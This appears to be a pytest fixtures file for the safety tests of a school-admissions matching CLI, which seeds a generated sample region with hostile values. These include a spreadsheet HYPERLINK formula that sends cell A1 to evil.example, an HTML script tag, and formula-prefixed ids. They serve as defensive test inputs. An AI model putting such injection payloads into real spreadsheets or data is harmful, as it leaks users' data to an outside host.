"""Shared fixtures of the safety tests: a small generated region, a hostile copy of it, the CLI runner."""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from admissions.cli import app

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data" / "samples" / "skane-2000"
FUZZ_CORPUS = ROOT / "tests" / "data" / "fuzz"

#: A 32-byte key for the pseudonym tests; real keys are kept secret, never in a repository.
KEY = "test-key-0123456789abcdef-0123456"

#: Hostile values put into the sample region: what a spreadsheet would run, and HTML.
HOSTILE_SCHOOL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_HTML_SCHOOL = "<script>alert(1)</script>"
HOSTILE_ORIENTATION = "+SUM(1;1)"
HOSTILE_PROGRAMME = "@MAL-LAT-NA-NAT"
HOSTILE_STUDENT = "-0042"
TAB_STUDENT = "\tS000003"

runner = CliRunner()


def run(*args, env: dict | None = None):
    """Invoke the CLI; stdout and stderr apart (result.stdout, result.stderr)."""
    return runner.invoke(app, [str(a) for a in args], env=env)


def read_text_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8")


def write_text_csv(frame: pd.DataFrame, path: Path) -> None:
    frame.to_csv(path, index=False, lineterminator="\n", encoding="utf-8")


@pytest.fixture(scope="session")
def region(generated_small_region, tmp_path_factory) -> Path:
    """A generated region of 400 students of Lund, Lomma and Staffanstorp (60 offers; tests/conftest.py,
    generated_small_region) with half of the seats, so that seeds place students differently. Quick
    rounds; shared, so never written: copy it (``region_copy``) to change it. The tests that need the
    sample's size use SAMPLE."""
    folder = tmp_path_factory.mktemp("safety-region") / "region"
    shutil.copytree(generated_small_region, folder)
    programmes = read_text_csv(folder / "programmes.csv")
    programmes["seats"] = [str(max(1, int(s) // 2)) for s in programmes["seats"]]
    write_text_csv(programmes, folder / "programmes.csv")
    return folder


@pytest.fixture
def region_copy(region, tmp_path) -> Path:
    """A private copy of ``region``."""
    folder = tmp_path / "region"
    shutil.copytree(region, folder)
    return folder


def make_hostile(folder: Path) -> Path:
    """Put formula-like and HTML school names, programme and student ids into the region in ``folder``."""
    programmes = read_text_csv(folder / "programmes.csv")
    old_programme = programmes.loc[0, "programme_id"]
    programmes.loc[0, "programme_id"] = HOSTILE_PROGRAMME
    programmes.loc[0, "school"] = HOSTILE_SCHOOL
    programmes.loc[0, "orientation"] = HOSTILE_ORIENTATION
    programmes.loc[1, "school"] = HOSTILE_HTML_SCHOOL
    write_text_csv(programmes, folder / "programmes.csv")
    renames = {"S000001": HOSTILE_STUDENT, "S000003": TAB_STUDENT}
    for name in ("students", "applications", "grades"):
        frame = read_text_csv(folder / f"{name}.csv")
        frame["student_id"] = frame["student_id"].replace(renames)
        if name == "applications":
            frame["programme_id"] = frame["programme_id"].replace({old_programme: HOSTILE_PROGRAMME})
        write_text_csv(frame, folder / f"{name}.csv")
    return folder


@pytest.fixture(scope="module")
def hostile_match(region, tmp_path_factory):
    """The small region made hostile and matched once: (input folder, OUT)."""
    base = tmp_path_factory.mktemp("hostile")
    folder = base / "region"
    shutil.copytree(region, folder)
    make_hostile(folder)
    out = base / "out"
    result = run("match", folder, "--out", out, "--seed", "3", "--quiet")
    assert result.exit_code == 0, result.output
    return folder, out
